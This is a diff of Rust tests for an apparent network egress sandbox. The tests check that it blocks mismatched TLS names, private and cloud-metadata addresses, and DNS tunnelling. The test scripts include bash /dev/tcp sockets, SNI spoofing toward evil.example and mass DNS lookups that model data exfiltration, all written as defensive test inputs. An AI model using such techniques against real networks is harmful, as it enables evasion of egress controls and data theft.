@@ -21,10 +21,10 @@ fn a19_every_program_is_covered() {
         "--allow",
         "six.example",
     ];
-    let script = "curl -sSk https://good.example/; curl -sS http://good.example/; curl -sSk https://six.example/
+    let script = "curl -sS https://good.example/; curl -sS http://good.example/; curl -sS https://six.example/
         env -i /usr/bin/env python3 -c \"import socket; s=socket.create_connection(('good.example',80)); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(100)[-6:].decode(), end='')\"
         printf 'GET / HTTP/1.0\\r\\n\\r\\n' | bash -c 'exec 3<>/dev/tcp/good.example/80; cat >&3; tail -n1 <&3'
-        echo | openssl s_client -connect good.example:443 -servername good.example 2>/dev/null | grep -c 'CN = good.example'";
+        echo | openssl s_client -connect good.example:443 -servername good.example 2>/dev/null | grep -c 'issuer=.*fumehood session'";
     let ran = hosts.sh(&flags, script);
     let out = ran.out.text();
     assert_eq!(
@@ -35,7 +35,8 @@ fn a19_every_program_is_covered() {
         ran.log
     );
     ran.nothing_left();
-    assert!(ran.log.matches("\"good\": \"tls\"").count() >= 3, "{}", ran.log);
+    assert_eq!(out.lines().last(), Some("1"), "{out}");
+    assert_eq!(ran.log.matches("\"good\": \"tls\"").count(), 2, "{}", ran.log);
 }
 
 /// A14, A16: nothing is allowed where nothing is said, and what was tried is told with the words to allow it.
@@ -56,8 +57,8 @@ fn a14_denials_teach() {
     assert!(!ran.log.contains("good"), "{}", ran.log);
 }
 
-/// A2, A4, A5: the name in the TLS greeting is the name that was dialled; what was dialled is what was
-/// resolved outside, whatever address the client took.
+/// A2, A4, A5: every name within a flow is the one that was dialled; what was dialled is what was resolved outside,
+/// whatever address the client took.
 #[test]
 fn a2_a4_a5_names_within_a_flow_agree() {
     let hosts = Hosts::new();
@@ -65,15 +66,34 @@ fn a2_a4_a5_names_within_a_flow_agree() {
     let ran = hosts.python(
         &flags,
         "print(tls('good.example', 443, 'good.example'), tls('good.example', 443, 'evil.example'), tls('good.example', 443, None),
-         tls('8.8.4.4', 443, None), tls('8.8.4.4', 443, 'evil.example'), tls('x', 443, 'good.example', to='9.9.9.9'))",
+         tls('8.8.4.4', 443, None), tls('8.8.4.4', 443, 'evil.example'), tls('x', 443, 'good.example', to='9.9.9.9'),
+         tls('evil.example', 443, 'good.example', to='good.example'))",
     );
-    ran.prints("answered ECONNRESET ECONNRESET answered ECONNRESET ECONNRESET")
+    ran.prints("200 TLSV1_UNRECOGNIZED_NAME 200 200 TLSV1_UNRECOGNIZED_NAME ECONNRESET 421")
         .says("blocked good.example:443: the TLS greeting names another host than was dialled")
         .says("blocked 8.8.4.4:443: the TLS greeting names another host than was dialled")
         .says("blocked 9.9.9.9:443: no rule allows this host")
         .nothing_left();
+    // Of the others nothing came, not even a connection.
+    assert_eq!(ran.log.matches("\"good\": \"tls\"").count(), 3, "{}", ran.log);
+    assert_eq!(ran.log.matches("\"good\": \"http\"").count(), 3, "{}", ran.log);
+}
+
+/// The same where bytes pass unread: only the greeting is looked at.
+#[test]
+fn a4_names_of_greetings_that_pass_unread() {
+    let hosts = Hosts::new();
+    hosts.configure("[network]\nallow = [{ host = \"good.example\", tunnel = true }]");
+    let ran = hosts.python(
+        &[],
+        "print(tls('good.example', 443, 'good.example'), tls('good.example', 443, 'evil.example'), tls('good.example', 443, None))",
+    );
+    ran.prints("200 ECONNRESET ECONNRESET")
+        .says("blocked good.example:443: the TLS greeting names another host than was dialled")
+        .says("blocked good.example:443: the TLS greeting names no host")
+        .nothing_left();
     // Connected, but not a byte of the greetings was passed on.
-    assert_eq!(ran.log.matches("\"bytes\": 5}").count(), 2, "{}", ran.log);
+    assert_eq!(ran.log.matches("\"bytes\": 5}").count(), 1, "{}", ran.log);
 }
 
 /// A8: an address is judged as the address it is, however it is written.
@@ -117,11 +137,11 @@ fn a20_a21_names_that_lead_inside() {
         .collect();
     let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
     let script = format!(
-        "print(*(dial(n + '.example', 80, b'x') for n in '{}'.split()))",
+        "print(*(get(n + '.example') for n in '{}'.split()))",
         names.join(" ")
     );
     let ran = hosts.python(&flags, &script);
-    ran.prints(&["ECONNRESET"; 9].join(" "))
+    ran.prints(&["403"; 9].join(" "))
         .says("blocked private.example:80: the name leads to a private address, which no rule names; --allow 10.1.2.3:80\n")
         .says("blocked metadata.example:80: the name leads to a cloud metadata address, which no rule names; --allow 169.254.169.254:80\n")
         .says("blocked loop.example:80: the name leads to this machine's own address, which no rule names\n")
@@ -129,19 +149,17 @@ fn a20_a21_names_that_lead_inside() {
 
     // Named, it is reached: the canary sees exactly this one.
     let named = ["--allow", "private.example:80", "--allow", "10.1.2.3:80"];
-    let ran = Hosts::new().python(&named, "dial('private.example', 80, b'named')");
+    let ran = Hosts::new().python(&named, "get('private.example')");
     assert!(
-        ran.log.contains(r#"{"canary": "10.1.2.3:80", "bytes": "named"}"#),
+        ran.log
+            .contains(r#"{"canary": "10.1.2.3:80", "bytes": "GET / HTTP/1.1\r\nHost: private.example"#),
         "{}",
         ran.log
     );
 
     // Of a name with both, only the public address is dialled.
-    let ran = Hosts::new().python(
-        &["--allow", "mixed.example:80"],
-        "print(dial('mixed.example', 80, b'GET / HTTP/1.0\\r\\n\\r\\n')[:12])",
-    );
-    ran.prints("HTTP/1.1 200").nothing_left();
+    let ran = Hosts::new().python(&["--allow", "mixed.example:80"], "print(get('mixed.example'))");
+    ran.prints("200").nothing_left();
 }
 
 /// A22, escapes 58, CVE-2025-55284: names carry nothing out; only a name that is dialled, and allowed, is
@@ -150,15 +168,15 @@ fn a20_a21_names_that_lead_inside() {
 fn a22_names_are_no_tunnel() {
     let hosts = Hosts::new();
     let ran = hosts.python(
-        &["--allow", "*.wild.example", "--allow", "asked.example"],
+        &["--allow", "*.wild.example", "--allow", "asked.example:80"],
         "for n in range(3000): ask('198.18.0.1', 'x%d.evil.example' % n)
 for n in range(300): ask(['8.8.8.8', '1.1.1.1', '2606:4700::1111', '127.0.0.53', '192.0.2.53'][n % 5], 's%d.wild.example' % n)
 for k in (2, 5, 15, 16, 33, 65, 255): assert ask('8.8.8.8', 'secret.example', kind=k) == (0, 0), k
-print(dial('denied.example', 443), dial('asked.example', 443))",
+print(dial('denied.example', 443), get('asked.example'))",
     );
-    ran.prints("ECONNRESET ECONNRESET")
+    ran.prints("ECONNRESET 502")
         .says("blocked denied.example:443: no rule")
-        .says("no answer from asked.example:443: the name has no address");
+        .says("no answer from asked.example:80: the name has no address");
     assert!(
         !ran.log.contains("canary")
             && !ran.log.contains("evil")
@@ -259,7 +277,7 @@ fn lesser_kernels() {
         let hosts = Hosts::new();
         let flags = [&GOOD[..], &["--allow", "good.example:5432", "--boundary", way]].concat();
         let ran = hosts.python(&flags, script);
-        let expected = format!("answered ready ECONNRESET ECONNRESET ECONNRESET {unnamed} ECONNREFUSED 0");
+        let expected = format!("200 ready ECONNRESET ECONNRESET ECONNRESET {unnamed} ECONNREFUSED 0");
         ran.prints(&expected)
             .says(words)
             .says("blocked evil.example:443: no rule allows this host")
